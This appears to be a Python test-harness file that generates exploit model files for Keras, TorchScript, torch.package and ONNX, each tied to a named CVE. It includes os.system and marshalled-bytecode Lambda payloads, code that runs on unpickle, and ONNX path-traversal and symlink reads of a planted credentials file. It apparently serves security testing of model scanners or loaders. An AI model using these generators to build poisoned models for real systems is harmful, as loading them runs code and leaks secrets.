"""Framework formats that run code on load: Keras (.keras, .h5), TorchScript, torch.package,
and ONNX external data that reads files outside the model folder."""

from __future__ import annotations

import io
import json
import marshal
import os
import zipfile
from pathlib import Path

from registry import Canary, sample

SECRET = "REDTEAM-SECRET-7f3a"


def _keras_base(tmp: Path) -> dict[str, bytes]:
    """A real .keras archive (Input -> Lambda) written by Keras, as member name -> bytes."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    inp = keras.Input(shape=(1,), name="x")
    out = keras.layers.Lambda(lambda t: t, name="lam")(inp)
    keras.Model(inp, out).save(tmp)
    with zipfile.ZipFile(tmp) as z:
        return {n: z.read(n) for n in z.namelist()}


def _keras_write(out: Path, edit) -> None:  # type: ignore[no-untyped-def]
    members = _keras_base(out.with_name("base.keras"))
    out.with_name("base.keras").unlink()
    cfg = json.loads(members["config.json"])
    lam = next(layer for layer in cfg["config"]["layers"] if layer["class_name"] == "Lambda")
    edit(lam)
    members["config.json"] = json.dumps(cfg).encode()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)


def _marshal_fn(c: Canary) -> dict[str, object]:
    import base64

    src = f"def f(t):\n    {c.py}\n    return t\n"
    ns: dict[str, object] = {}
    exec(compile(src, "<lambda>", "exec"), ns)
    code = ns["f"].__code__  # type: ignore[attr-defined]
    raw = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "__lambda__", "config": {"code": raw, "defaults": None, "closure": None}}


@sample(
    "keras-lambda-bytecode", "cve-2024-3660-keras-lambda", loader="keras_unsafe", name="model.keras"
)
def _lambda(out: Path, c: Canary) -> None:
    _keras_write(out, lambda lam: lam["config"].update(function=_marshal_fn(c)))


def _fn_ref(module: str, name: str) -> dict[str, object]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


@sample(
    "keras-module-function-os-system",
    "cve-2025-1550-keras-module",
    loader="keras",
    env="keras38",
    gen="keras38",
    name="model.keras",
)
def _module_fn(out: Path, c: Canary) -> None:
    def edit(lam: dict) -> None:  # type: ignore[type-arg]
        lam["config"]["function"] = _fn_ref("os", "system")
        lam["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": c.shell}}]

    _keras_write(out, edit)


@sample(
    "keras-get-file-gadget",
    "cve-2025-8747-keras-gadget",
    loader="keras",
    env="keras310",
    gen="keras310",
    name="model.keras",
)
def _get_file(out: Path, c: Canary) -> None:
    src = out.with_name("origin.txt")
    src.write_text("downloaded by the model\n")

    def edit(lam: dict) -> None:  # type: ignore[type-arg]
        lam["config"]["function"] = _fn_ref("keras.utils", "get_file")
        lam["config"]["arguments"] = {
            "origin": src.resolve().as_uri(),
            "cache_dir": str(c.path.parent),
            "cache_subdir": ".",
        }
        lam["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": c.path.name}}]

    _keras_write(out, edit)


@sample(
    "keras-h5-lambda-safe-mode",
    "cve-2025-9905-keras-h5",
    loader="keras",
    env="keras311",
    gen="keras311",
    name="model.h5",
)
def _h5(out: Path, c: Canary) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    # a lambda (not a def) is saved as marshalled bytecode in the legacy format
    guard = "__import__('os').environ.get('REDTEAM_GENERATING')"
    fn = eval(f"lambda t: (None if {guard} else {c.py_expr}, t)[1]")
    inp = keras.Input(shape=(1,), name="x")
    keras.Model(inp, keras.layers.Lambda(fn, name="lam")(inp)).save(out)


def _torchscript_module(c: Canary):  # type: ignore[no-untyped-def]
    import torch

    class M(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.p = "unset"
            self.path = str(c.path)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

        @torch.jit.export
        def __getstate__(self) -> tuple[str, str]:
            return (self.p, self.path)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, str]) -> None:
            self.training = False
            self.p = state[0]
            self.path = state[1]
            # the result is used, or TorchScript drops the call as dead code
            if self.p == "armed" and torch.from_file(self.path, shared=True, size=8).numel() > 0:
                self.p = "done"

    m = torch.jit.script(M())
    m.p = "armed"
    return m


@sample(
    "torchscript-setstate-from-file", "torchscript-code-exec", loader="torch_jit", name="model.pt"
)
def _ts(out: Path, c: Canary) -> None:
    import torch

    torch.jit.save(_torchscript_module(c), str(out))


@sample(
    "torchscript-via-torch-load", "cve-2025-32434-torch-load-jit", loader="torch", name="model.pt"
)
def _ts_load(out: Path, c: Canary) -> None:
    import torch

    torch.jit.save(_torchscript_module(c), str(out))


@sample(
    "torch-package-module-source", "torch-package-code", loader="torch_package", name="model.pt"
)
def _package(out: Path, c: Canary) -> None:
    import sys
    import tempfile

    from torch.package import PackageExporter

    code = (
        "import os\nif not os.environ.get('REDTEAM_GENERATING'):\n"
        f"    {c.py}\n\nclass Head:\n    def __init__(self):\n        self.size = 4\n"
    )
    with tempfile.TemporaryDirectory() as tmp:
        Path(tmp, "tiny_head.py").write_text(code)
        sys.path.insert(0, tmp)
        import tiny_head

        with PackageExporter(str(out)) as exp:
            exp.save_source_string("tiny_head", code)
            exp.save_pickle("model", "model.pkl", tiny_head.Head())
        sys.path.remove(tmp)
        del sys.modules["tiny_head"]


def _onnx_external(out: Path, location: str) -> None:
    from onnx import TensorProto, helper

    t = helper.make_tensor("w", TensorProto.UINT8, [len(SECRET)], b"\x00" * len(SECRET), raw=True)
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    t.external_data.add(key="location", value=location)
    node = helper.make_node("Identity", ["w"], ["y"])
    out_info = helper.make_tensor_value_info("y", TensorProto.UINT8, [len(SECRET)])
    graph = helper.make_graph([node], "g", [], [out_info], initializer=[t])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    out.write_bytes(model.SerializeToString())


def _secret(c: Canary) -> Path:
    p = c.path.parent.parent / "secret" / "credentials.txt"
    p.parent.mkdir(exist_ok=True)
    p.write_text(SECRET)
    return p


@sample(
    "onnx-external-traversal",
    "cve-2024-27318-onnx-traversal",
    loader="onnx",
    env="onnx115",
    name="model",
)
def _onnx_rel(out: Path, c: Canary) -> None:
    # onnx < 1.16 strips leading "../" and "/" only: a traversal after a first folder passes
    (out / "weights").mkdir(parents=True)
    rel = os.path.relpath(_secret(c), out)
    _onnx_external(out / "model.onnx", "weights/../" + rel)


@sample(
    "onnx-external-root-walk",
    "cve-2024-27318-onnx-traversal",
    loader="onnx",
    env="onnx115",
    name="model",
)
def _onnx_abs(out: Path, c: Canary) -> None:
    (out / "weights").mkdir(parents=True)
    up = "../" * (len(out.resolve().parts) + 1)
    _onnx_external(out / "model.onnx", "weights/" + up + str(_secret(c)).lstrip("/"))


@sample(
    "onnx-external-leading-dotdot",
    "cve-2024-27318-onnx-traversal",
    loader="onnx",
    env="onnx115",
    name="model.onnx",
)
def _onnx_plain(out: Path, c: Canary) -> None:
    _onnx_external(out, os.path.relpath(_secret(c), out.parent))


@sample(
    "onnx-external-symlink", "onnx-external-symlink", loader="onnx", env="onnx115", name="model"
)
def _onnx_link(out: Path, c: Canary) -> None:
    out.mkdir()
    (out / "weights.bin").symlink_to(_secret(c))
    _onnx_external(out / "model.onnx", "weights.bin")


_ = io
